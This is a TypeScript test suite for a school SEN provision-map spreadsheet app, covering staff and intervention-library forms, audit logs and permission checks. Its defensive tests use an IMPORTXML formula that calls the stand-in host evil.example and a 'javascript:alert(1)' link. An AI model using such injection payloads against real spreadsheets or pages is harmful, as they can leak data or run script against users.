import type { Emulator } from '../../emulator/src';
import {
  insertRowAsUser,
  moveColumnAsUser,
  sortSheetRowsAsUser,
} from '../../emulator/src/spreadsheet';
import type { InterventionFormOptions, SaveResult } from '../../src/api/contract';
import type {
  LibraryEntryForm,
  LibraryFormOptions,
  StaffFormOptions,
  StaffMemberForm,
} from '../../src/api/staff-contract';
import { newEmulator, setUpEmulator, storedCell, validForm } from '../support/emulator';

const READ = 'SpreadsheetApp.Range.getValues';
const WRITE = 'SpreadsheetApp.Range.setValues';

function writesOf(calls: Record<string, number>): number {
  return Object.entries(calls)
    .filter(([method]) => /\.(set\w*|append\w*|insert\w*|delete\w*|clear\w*)$/.test(method))
    .reduce((sum, [, n]) => sum + n, 0);
}

function newPerson(overrides: Record<string, string> = {}): Record<string, string> {
  return {
    name: 'Mrs Jo Patel',
    email: 'jpatel@school.example',
    role: 'Teacher',
    hourlyCost: '£32.50',
    trainedIn: 'Precision teaching, Lego therapy',
    ...overrides,
  };
}

function newEntry(overrides: Record<string, string> = {}): Record<string, string> {
  return {
    name: 'Precision teaching',
    areaOfNeed: 'SPLD',
    evidenceLink: 'https://educationendowmentfoundation.org.uk/toolkit',
    evidenceNote: 'TA-led structured interventions add about 4 months',
    evidenceStrength: 'Moderate',
    minutesPerSession: '20',
    sessionsPerWeek: '3',
    lengthWeeks: '12',
    resourceCost: '45',
    usualGroupSize: '4',
    trainingNeeded: 'None',
    ...overrides,
  };
}

function save(emu: Emulator, endpoint: string, form: Record<string, string>): SaveResult {
  return emu.scriptRun<SaveResult>(endpoint, [form]).value;
}

function savedId(result: SaveResult): string {
  if (!result.ok) throw new Error(`refused: ${JSON.stringify(result.errors)}`);
  return result.id;
}

describe('the Staff form', () => {
  it('lists everyone on the Staff tab by name and role, and says when the sheet is not set up', () => {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<StaffFormOptions>('getStaffFormOptions');
    expect(value).toEqual({
      workbookReady: true,
      staff: [
        { id: 'STF-0002', label: 'Mr Tom Reed (TA)' },
        { id: 'STF-0001', label: 'Ms Amara Okafor (SENCo)' },
      ],
      withoutId: 0,
      programmes: [],
    });
    emu.appendRecords('Staff', [{ Name: 'Typed by hand', Email: 'hand@school.example' }]);
    const later = emu.scriptRun<StaffFormOptions>('getStaffFormOptions').value;
    expect(later.staff).toHaveLength(2);
    expect(later.withoutId).toBe(1);
    const bare = newEmulator();
    bare.install();
    expect(bare.scriptRun<StaffFormOptions>('getStaffFormOptions').value.workbookReady).toBe(false);
  });

  it('adds a person with every field under its header, the cost as a number', () => {
    const emu = setUpEmulator();
    const result = save(emu, 'saveStaffMember', newPerson());
    expect(result).toMatchObject({
      ok: true,
      message: 'Added Mrs Jo Patel (Teacher, £32.50 an hour) to the Staff tab.',
      warnings: [],
    });
    const row = emu.records('Staff')[2];
    expect(row).toEqual({
      'Staff ID': savedId(result),
      Name: 'Mrs Jo Patel',
      Email: 'jpatel@school.example',
      Role: 'Teacher',
      'Hourly cost': 32.5,
      'Trained in': 'Precision teaching, Lego therapy',
    });
    expect(savedId(result)).toMatch(/^STF-[0-9A-F]{12}$/);
    const audit = emu.records('Audit log');
    expect(audit.map((r) => r.Field).sort()).toEqual(
      ['Email', 'Hourly cost', 'Name', 'Role', 'Staff ID', 'Trained in'].sort(),
    );
    expect(audit.every((r) => r['Record ID'] === savedId(result))).toBe(true);
  });

  it('costs one read of each tab it prices from and one write, plus the audit log', () => {
    const emu = setUpEmulator();
    save(emu, 'saveStaffMember', newPerson());
    const calls = emu.calls();
    // Staff; Interventions, Participants and Settings (to price what they lead); the Provision
    // library (for those interventions' warnings); the Audit log's header row.
    expect(calls[READ]).toBe(6);
    expect(calls[WRITE]).toBe(2); // the new Staff row, and its audit rows: they lead nothing yet
    expect(writesOf(calls)).toBe(2 + 1); // + the audit log's chain head
    expect(calls['LockService.Lock.waitLock']).toBe(1);
  });

  it('loads a person for editing and changes only the cells that changed, noting old → new', () => {
    const emu = setUpEmulator();
    const form = emu.scriptRun<StaffMemberForm>('getStaffMember', ['STF-0002']).value;
    expect(form).toEqual({
      id: 'STF-0002',
      name: 'Mr Tom Reed',
      email: 'treed@school.example',
      role: 'TA',
      hourlyCost: '',
      trainedIn: 'Precision teaching',
    });
    emu.resetCalls();
    const before = emu.values('Staff');
    const result = save(emu, 'saveStaffMember', {
      ...form,
      email: 'tom.reed@school.example',
      hourlyCost: '18.5',
    });
    expect(result).toMatchObject({
      ok: true,
      id: 'STF-0002',
      message: 'Saved the changes to Mr Tom Reed (TA, £18.50 an hour) on the Staff tab.',
    });
    const after = emu.values('Staff');
    const changed = after.flatMap((row, r) =>
      row.flatMap((cell, c) => (cell === before[r]?.[c] ? [] : [[r, String(after[0]?.[c])]])),
    );
    expect(changed).toEqual([
      [2, 'Email'],
      [2, 'Hourly cost'],
    ]);
    expect(after[2]?.[after[0]!.indexOf('Hourly cost')]).toBe(18.5);
    expect(
      emu
        .records('Audit log')
        .map((r) => [r['Record ID'], r.Field, r['Old value'], r['New value']]),
    ).toEqual([
      ['STF-0002', 'Email', 'treed@school.example', 'tom.reed@school.example'],
      ['STF-0002', 'Hourly cost', '', '18.5'],
    ]);
    const calls = emu.calls();
    expect(calls[READ]).toBe(6);
    expect(calls[WRITE]).toBe(2);
  });

  it('writes nothing when nothing has changed', () => {
    const emu = setUpEmulator();
    const form = emu.scriptRun<StaffMemberForm>('getStaffMember', ['STF-0001']).value;
    emu.resetCalls();
    const result = save(emu, 'saveStaffMember', form);
    expect(result).toMatchObject({ ok: true, id: 'STF-0001' });
    expect(result.ok && result.message).toMatch(/Nothing had changed/);
    expect(writesOf(emu.calls())).toBe(0);
    expect(emu.records('Audit log')).toHaveLength(0);
  });

  it('refuses an email address someone else already has, whatever its capitals', () => {
    const emu = setUpEmulator();
    const result = save(emu, 'saveStaffMember', newPerson({ email: 'TReed@School.example' }));
    expect(result).toMatchObject({
      ok: false,
      errors: {
        email:
          'Email address: TReed@School.example is already used by Mr Tom Reed on the Staff tab. Each person needs their own address.',
      },
    });
    expect(emu.records('Staff')).toHaveLength(2);
    expect(writesOf(emu.calls())).toBe(0);
    // A person keeps their own address when their other details change.
    const tom = emu.scriptRun<StaffMemberForm>('getStaffMember', ['STF-0002']).value;
    expect(save(emu, 'saveStaffMember', { ...tom, trainedIn: 'Lego therapy' }).ok).toBe(true);
  });

  it('refuses bad input with a message per field and writes nothing', () => {
    const emu = setUpEmulator();
    const before = emu.values('Staff');
    const result = save(emu, 'saveStaffMember', {
      name: '',
      email: 'not an address',
      role: 'Caretaker',
      hourlyCost: '12.345',
      trainedIn: '',
    });
    expect(result).toEqual({
      ok: false,
      message: 'Nothing was saved: please correct the 4 fields marked below.',
      errors: {
        name: 'Name: this is required',
        email: 'Email address: enter a full email address, like name@school.org.uk',
        role: 'Role: choose one of SENCo, Teacher, TA, External',
        hourlyCost:
          'Hourly cost: use pounds and pence, with at most 2 numbers after the point, like 18.50',
      },
    });
    expect(emu.values('Staff')).toEqual(before);
    expect(writesOf(emu.calls())).toBe(0);
  });

  it('warns, but saves, when a save makes a second SENCo or leaves none', () => {
    const emu = setUpEmulator();
    const second = save(emu, 'saveStaffMember', newPerson({ role: 'SENCo' }));
    expect(second.ok).toBe(true);
    expect(second.ok && second.warnings).toEqual([
      'There are now 2 SENCos: reminders go to the first one listed on the Staff tab (Ms Amara Okafor). If that is not right, change the other roles.',
    ]);
    const jo = emu.scriptRun<StaffMemberForm>('getStaffMember', [savedId(second)]).value;
    expect(save(emu, 'saveStaffMember', { ...jo, role: 'Teacher' })).toMatchObject({
      ok: true,
      warnings: [],
    });
    const amara = emu.scriptRun<StaffMemberForm>('getStaffMember', ['STF-0001']).value;
    const none = save(emu, 'saveStaffMember', { ...amara, role: 'Teacher' });
    expect(none.ok && none.warnings?.[0]).toMatch(/^There is now no SENCo on the Staff tab/);
    expect(emu.records('Staff').filter((r) => r.Role === 'SENCo')).toHaveLength(0);
  });

  it('stores what people type as text, never as a formula', () => {
    const emu = setUpEmulator();
    const text = '=IMPORTXML("https://evil.example","//a")';
    expect(save(emu, 'saveStaffMember', newPerson({ trainedIn: text })).ok).toBe(true);
    const cell = storedCell(emu, 'Staff', 3, 'Trained in');
    expect(cell?.f).toBeUndefined();
    expect(cell?.v).toBe(text);
  });

  it('says so, and writes nothing, when the person was deleted from the tab meanwhile', () => {
    const emu = setUpEmulator();
    const result = save(emu, 'saveStaffMember', { ...newPerson(), id: 'STF-GONE' });
    expect(result.ok).toBe(false);
    expect(!result.ok && result.errors.form).toMatch(/no longer on the Staff tab/);
    expect(emu.scriptRun('getStaffMember', ['STF-GONE']).value).toBeNull();
    expect(writesOf(emu.calls())).toBe(0);
  });

  it('still edits the right cells after users move columns, sort and insert rows', () => {
    const emu = setUpEmulator();
    const jo = savedId(save(emu, 'saveStaffMember', newPerson()));
    moveColumnAsUser(emu.state, 'Staff', 3, 6); // "Email" moved to the end
    moveColumnAsUser(emu.state, 'Staff', 1, 4); // the ID column moved too
    const nameColumn = emu.values('Staff')[0]!.indexOf('Name') + 1;
    sortSheetRowsAsUser(emu.state, 'Staff', nameColumn, false);
    insertRowAsUser(emu.state, 'Staff', 2);
    const form = emu.scriptRun<StaffMemberForm>('getStaffMember', [jo]).value;
    expect(form.email).toBe('jpatel@school.example');
    emu.resetCalls();
    save(emu, 'saveStaffMember', { ...form, email: 'jo.patel@school.example', role: 'TA' });
    expect(emu.calls()[WRITE]).toBe(2);
    const byId = new Map(emu.records('Staff').map((r) => [r['Staff ID'], r]));
    expect(byId.get(jo)).toMatchObject({
      Name: 'Mrs Jo Patel',
      Email: 'jo.patel@school.example',
      Role: 'TA',
      'Hourly cost': 32.5,
    });
    expect(byId.get('STF-0002')).toMatchObject({ Name: 'Mr Tom Reed', Role: 'TA' });
    expect(byId.get('STF-0001')).toMatchObject({ Name: 'Ms Amara Okafor', Role: 'SENCo' });
    const added = savedId(save(emu, 'saveStaffMember', newPerson({ email: 'new@school.example' })));
    expect(byIdOf(emu, 'Staff', 'Staff ID', added)).toMatchObject({ Email: 'new@school.example' });
  });
});

describe('the Staff form and good-practice warnings', () => {
  it('offers the Provision library\'s programmes to pick for "Trained in", each once, by name', () => {
    const emu = setUpEmulator();
    for (const name of [
      'Precision teaching',
      'Language for learning group',
      'precision teaching',
    ]) {
      savedId(save(emu, 'saveLibraryEntry', newEntry({ name })));
    }
    const { programmes } = emu.scriptRun<StaffFormOptions>('getStaffFormOptions').value;
    expect(programmes).toEqual(['Language for learning group', 'Precision teaching']);
  });

  it('adding someone named in an intervention takes them off its "not on the Staff tab" warning', () => {
    const emu = setUpEmulator();
    const saved = emu.scriptRun<SaveResult>('saveIntervention', [
      validForm({ supportedBy: 'Mr Tom Reed, Mrs Jo Patel (Teacher)' }),
    ]).value;
    expect(saved.ok && saved.warnings).toEqual([
      expect.stringMatching(/^"Mrs Jo Patel \(Teacher\)" \(supporting\) is not on the Staff tab/),
    ]);
    const added = save(emu, 'saveStaffMember', newPerson({ trainedIn: 'Lego therapy' }));
    expect(added.ok).toBe(true);
    // On the Staff tab now, but not trained in the programme: that is what the warning says.
    expect(emu.records('Interventions')[0]?.Warnings).toBe(
      '• Mrs Jo Patel (supporting) has no recorded training in Precision teaching: spelling: record it on the Staff tab, or arrange training.',
    );
    const form = emu.scriptRun<StaffMemberForm>('getStaffMember', [savedId(added)]).value;
    save(emu, 'saveStaffMember', { ...form, trainedIn: 'Lego therapy; Precision teaching' });
    expect(emu.records('Interventions')[0]?.Warnings).toBe('');
  });
});

function byIdOf(emu: Emulator, tab: string, idHeader: string, id: string) {
  return emu.records(tab).find((r) => r[idHeader] === id);
}

describe('the Provision library form', () => {
  it('adds an entry: the need as its code, numbers as numbers, and lists it by name', () => {
    const emu = setUpEmulator();
    const result = save(emu, 'saveLibraryEntry', newEntry());
    const id = savedId(result);
    expect(result.ok && result.message).toBe(
      `Added "Precision teaching" (${id}) to the Provision library. It is now offered when you add an intervention.`,
    );
    expect(emu.records('Provision library')).toEqual([
      {
        'Provision ID': id,
        Name: 'Precision teaching',
        'Area of need': 'SPLD',
        'Evidence link': 'https://educationendowmentfoundation.org.uk/toolkit',
        'Evidence note': 'TA-led structured interventions add about 4 months',
        'Evidence strength': 'Moderate',
        'Default minutes per session': 20,
        'Default sessions per week': 3,
        'Default weeks': 12,
        'Resource cost': 45,
        'Usual group size': 4,
        'Training needed': 'None',
        'Help at home': '',
      },
    ]);
    const calls = emu.calls();
    expect(calls[READ]).toBe(3); // the library, the Settings (its bounds) and the audit log's header
    expect(calls[WRITE]).toBe(2);
    expect(emu.scriptRun<LibraryFormOptions>('getLibraryFormOptions').value).toEqual({
      workbookReady: true,
      entries: [{ id, label: 'Precision teaching' }],
      withoutId: 0,
    });
  });

  it('refuses an evidence link that is not an http(s) web address, and writes nothing', () => {
    const emu = setUpEmulator();
    for (const evidenceLink of ['javascript:alert(1)', 'eef.org.uk', 'ftp://x.example.org/a']) {
      const result = save(emu, 'saveLibraryEntry', newEntry({ evidenceLink }));
      expect(!result.ok && result.errors).toEqual({
        evidenceLink:
          'Evidence link: enter a web address starting with https:// (or http://), like https://educationendowmentfoundation.org.uk',
      });
    }
    expect(emu.records('Provision library')).toHaveLength(0);
    expect(writesOf(emu.calls())).toBe(0);
  });

  it('refuses bad numbers and a missing area of need, naming each field', () => {
    const emu = setUpEmulator();
    const result = save(
      emu,
      'saveLibraryEntry',
      newEntry({ areaOfNeed: 'Dyslexia', lengthWeeks: '100', resourceCost: 'lots' }),
    );
    expect(!result.ok && result.errors).toEqual({
      areaOfNeed: 'Area of need: choose one from the list',
      lengthWeeks: 'Default length in weeks: enter a whole number from 1 to 52, or leave it blank',
      resourceCost: 'Resource cost: enter an amount in pounds, like 18.50',
    });
    expect(writesOf(emu.calls())).toBe(0);
  });

  it('edits only the cells that changed, noting old → new, after columns move and rows sort', () => {
    const emu = setUpEmulator();
    const lego = savedId(
      save(emu, 'saveLibraryEntry', newEntry({ name: 'Lego therapy', areaOfNeed: 'ASD' })),
    );
    const pt = savedId(save(emu, 'saveLibraryEntry', newEntry()));
    moveColumnAsUser(emu.state, 'Provision library', 2, 10);
    moveColumnAsUser(emu.state, 'Provision library', 1, 7);
    const nameColumn = emu.values('Provision library')[0]!.indexOf('Name') + 1;
    sortSheetRowsAsUser(emu.state, 'Provision library', nameColumn, false);
    const form = emu.scriptRun<LibraryEntryForm>('getLibraryEntry', [pt]).value;
    expect(form).toEqual({ ...newEntry(), resourceCost: '45.00', helpAtHome: '', id: pt });
    emu.resetCalls();
    const auditBefore = emu.records('Audit log').length;
    const before = emu.values('Provision library');
    const result = save(emu, 'saveLibraryEntry', {
      ...form,
      evidenceStrength: 'Strong (several robust studies)',
      lengthWeeks: '10',
    });
    expect(result).toMatchObject({ ok: true, id: pt });
    const calls = emu.calls();
    expect(calls[READ]).toBe(3);
    expect(calls[WRITE]).toBe(2);
    const after = emu.values('Provision library');
    const changed = after.flatMap((row, r) =>
      row.flatMap((cell, c) => (cell === before[r]?.[c] ? [] : [String(after[0]?.[c])])),
    );
    expect(changed.sort()).toEqual(['Default weeks', 'Evidence strength']);
    expect(byIdOf(emu, 'Provision library', 'Provision ID', pt)).toMatchObject({
      Name: 'Precision teaching',
      'Default weeks': 10,
      'Evidence strength': 'Strong (several robust studies)',
    });
    expect(byIdOf(emu, 'Provision library', 'Provision ID', lego)).toMatchObject({
      Name: 'Lego therapy',
      'Default weeks': 12,
      'Evidence strength': 'Moderate',
    });
    expect(
      emu
        .records('Audit log')
        .slice(auditBefore)
        .map((r) => [r['Record ID'], r.Field, r['Old value'], r['New value']]),
    ).toEqual([
      [pt, 'Evidence strength', 'Moderate', 'Strong (several robust studies)'],
      [pt, 'Default weeks', '12', '10'],
    ]);
  });
});

describe('starting an intervention from the Provision library', () => {
  it('offers every entry with the intervention fields it pre-fills', () => {
    const emu = setUpEmulator();
    const pt = savedId(save(emu, 'saveLibraryEntry', newEntry()));
    const talk = savedId(
      save(
        emu,
        'saveLibraryEntry',
        newEntry({
          name: 'Talk boost',
          areaOfNeed: 'SLCN',
          usualGroupSize: '1',
          evidenceLink: '',
          evidenceNote: '',
          evidenceStrength: 'Not yet evaluated',
          minutesPerSession: '',
          trainingNeeded: 'One-day course',
          resourceCost: '',
        }),
      ),
    );
    const { library } = emu.scriptRun<InterventionFormOptions>('getInterventionFormOptions').value;
    expect(library).toEqual([
      {
        id: pt,
        name: 'Precision teaching',
        form: {
          provisionId: pt,
          name: 'Precision teaching',
          minutesPerSession: '20',
          sessionsPerWeek: '3',
          lengthWeeks: '12',
          rationale:
            'Evidence (moderate): TA-led structured interventions add about 4 months. See https://educationendowmentfoundation.org.uk/toolkit',
          delivery: 'Group',
        },
      },
      {
        id: talk,
        name: 'Talk boost',
        form: {
          provisionId: talk,
          name: 'Talk boost',
          sessionsPerWeek: '3',
          lengthWeeks: '12',
          rationale: 'Evidence (not yet evaluated).',
          delivery: 'Individual',
        },
      },
    ]);
  });

  it('saves an intervention started from an entry, recording the entry it came from', () => {
    const emu = setUpEmulator();
    const pt = savedId(save(emu, 'saveLibraryEntry', newEntry()));
    const { library } = emu.scriptRun<InterventionFormOptions>('getInterventionFormOptions').value;
    const prefill = library[0]!.form;
    const result = save(emu, 'saveIntervention', {
      ...validForm(),
      ...prefill,
      location: 'Library',
    } as Record<string, string>);
    expect(result.ok).toBe(true);
    expect(emu.records('Interventions')[0]).toMatchObject({
      Name: 'Precision teaching',
      'Provision ID': pt,
      'Minutes per session': 20,
      'Group or individual': 'Group',
      'Rationale and evidence': prefill.rationale,
    });
  });

  it('offers nothing, without failing, before anything is in the library', () => {
    const emu = setUpEmulator();
    const { value } = emu.scriptRun<InterventionFormOptions>('getInterventionFormOptions');
    expect(value.library).toEqual([]);
    expect(value.workbookReady).toBe(true);
  });
});

describe('who may change hourly costs', () => {
  const TEACHER = 'teacher@school.example';

  it('set-up protects the Hourly cost column: only the person who set the map up may edit it', () => {
    const emu = setUpEmulator();
    const staff = emu.state.spreadsheet.sheets.find((s) => s.name === 'Staff')!;
    const costs = staff.protections.find((p) => /^Hourly costs/.test(p.description ?? ''));
    expect(costs?.editors).toEqual(['senco@school.example']);
    // A second set-up adds no second protection.
    emu.menu('setUpProvisionMap');
    const again = emu.state.spreadsheet.sheets.find((s) => s.name === 'Staff')!;
    expect(again.protections.filter((p) => /^Hourly costs/.test(p.description ?? ''))).toHaveLength(
      1,
    );
  });

  it('another member of staff may save a person, but not set or change an hourly cost', () => {
    const emu = setUpEmulator();
    const id = savedId(save(emu, 'saveStaffMember', newPerson()));
    const changeCost = emu.scriptRun<SaveResult>(
      'saveStaffMember',
      [{ ...newPerson({ hourlyCost: '£40' }), id }],
      TEACHER,
    ).value;
    expect(changeCost).toMatchObject({
      ok: false,
      errors: {
        hourlyCost: expect.stringMatching(
          /^Hourly cost: only the SENCo who set up the provision map/,
        ),
      },
    });
    const newEmail = emu.scriptRun<SaveResult>(
      'saveStaffMember',
      [{ ...newPerson({ email: 'jo.patel@school.example' }), id }],
      TEACHER,
    ).value;
    expect(newEmail).toMatchObject({ ok: true, id });
    const person = emu.records('Staff').find((r) => r['Staff ID'] === id);
    expect(person).toMatchObject({ Email: 'jo.patel@school.example', 'Hourly cost': 32.5 });
  });
});
